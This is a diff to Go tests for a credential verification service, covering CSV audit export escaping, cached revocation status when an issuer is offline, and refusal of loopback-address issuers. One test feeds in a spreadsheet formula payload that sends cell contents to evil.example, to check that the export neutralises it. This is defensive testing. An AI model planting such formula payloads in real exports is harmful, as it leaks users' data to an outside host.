@@ -203,6 +203,18 @@ func TestRevocationAndSuspension(t *testing.T) {
 		if err != nil || len(rows) != 2 || rows[1][3] != "credential.suspended" || rows[1][6] != "under review" {
 			t.Fatalf("audit CSV: %v %q", err, body)
 		}
+		// A reason that a spreadsheet program would run as a formula is
+		// written with a leading quote in audit.csv (issue 10, item 9).
+		formula := `=HYPERLINK("https://evil.example/?d="&A1,"details")`
+		reason, _ := json.Marshal(map[string]string{"reason": formula})
+		if resp, body := h.Do(t, "registrar", "POST", "/api/v1/credentials/"+c.ID+"/suspend", "application/json", bytes.NewReader(reason)); resp.StatusCode != 200 {
+			t.Fatalf("suspend C: %d %s", resp.StatusCode, body)
+		}
+		_, body = h.Do(t, "admin", "GET", "/api/v1/audit?format=csv&action=credential.suspended&object_id="+c.ID, "", nil)
+		rows, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil || len(rows) != 2 || rows[1][6] != "'"+formula {
+			t.Fatalf("audit CSV with a formula: %v %q", err, body)
+		}
 	})
 }
 
@@ -230,10 +242,77 @@ func TestOtherIssuerStatus(t *testing.T) {
 		t.Fatalf("A's revoked credential at B: %s", r.Status)
 	}
 	_, jws := a.Do(t, "", "GET", "/c/"+good.ID+"/credential.jwt", "", nil)
+	c := apptest.Start(t, "sqlite", insecure)
 	a.Stop()
+	// B answers from the copies it keeps for their lifetime (the list's
+	// ttl); an instance without them cannot reach A and says so.
 	_, body := b.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
+	if r := decode[verifier.Result](t, body); r.Status != "valid" {
+		t.Fatalf("with A down, B (cached) said %s", r.Status)
+	}
+	_, body = c.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
 	r := decode[verifier.Result](t, body)
 	if r.Verified || r.Status == "valid" {
-		t.Fatalf("with A down, B said %s", r.Status)
+		t.Fatalf("with A down, C said %s", r.Status)
 	}
+	if !bytes.Contains(body, []byte("could not reach the issuer")) || !bytes.Contains(body, []byte(verifier.CodeIssuerUnreachable)) ||
+		bytes.Contains(body, []byte("refused")) || bytes.Contains(body, []byte("dial")) {
+		t.Fatalf("C's answer: %s", body)
+	}
+}
+
+// TestLoopbackIssuerRefused: a credential whose issuer lives on a loopback
+// address (here a real tanu instance on 127.0.0.1) is not verified by an
+// instance without the test hook, and the issuer never sees a request.
+func TestLoopbackIssuerRefused(t *testing.T) {
+	a := apptest.Start(t, "sqlite")
+	b := apptest.Start(t, "sqlite")
+	regno := createProgram(t, a)
+	cred := issue(t, a, regno, "L1")
+	_, jws := a.Do(t, "", "GET", "/c/"+cred.ID+"/credential.jwt", "", nil)
+	before := routeHits(t, a, "/.well-known/jwks.json") + routeHits(t, a, "/issuer/keys/:kid") + routeHits(t, a, "/status/:list")
+	resp, body := b.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
+	r := decode[verifier.Result](t, body)
+	if (resp.StatusCode != 200 && resp.StatusCode != 400) || r.Verified || r.Status != "invalid" {
+		t.Fatalf("loopback issuer at B: %d %s", resp.StatusCode, body)
+	}
+	if !bytes.Contains(body, []byte("could not reach the issuer")) || bytes.Contains(body, []byte("refused")) || bytes.Contains(body, []byte("dial")) {
+		t.Fatalf("B's answer leaks or misleads: %s", body)
+	}
+	after := routeHits(t, a, "/.well-known/jwks.json") + routeHits(t, a, "/issuer/keys/:kid") + routeHits(t, a, "/status/:list")
+	if after != before {
+		t.Fatalf("A received %v fetches from B", after-before)
+	}
+	// The page says it in the page's language.
+	for lang, want := range map[string]string{"kk": "Шығарушыға қосылу мүмкін болмады", "ru": "Не удалось связаться с издателем", "en": "Could not reach the issuer"} {
+		req, _ := http.NewRequest("POST", b.URL+"/api/v1/verify?lang="+lang, bytes.NewReader(jws))
+		req.Header.Set("Accept", "text/html")
+		req.Header.Set("Content-Type", "text/plain")
+		resp, err := b.Client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		page, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if !bytes.Contains(page, []byte(want)) {
+			t.Errorf("%s page lacks %q", lang, want)
+		}
+	}
+}
+
+// routeHits reads the request counter of route from the instance's metrics.
+func routeHits(t *testing.T, h *apptest.Harness, route string) float64 {
+	t.Helper()
+	resp, body := h.Do(t, "admin", "GET", "/metrics", "", nil)
+	if resp.StatusCode != 200 {
+		t.Fatalf("metrics: %d", resp.StatusCode)
+	}
+	var total float64
+	for _, line := range strings.Split(string(body), "\n") {
+		if strings.HasPrefix(line, "tanu_http_requests_total{") && strings.Contains(line, `route="`+route+`"`) {
+			n, _ := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
+			total += n
+		}
+	}
+	return total
 }
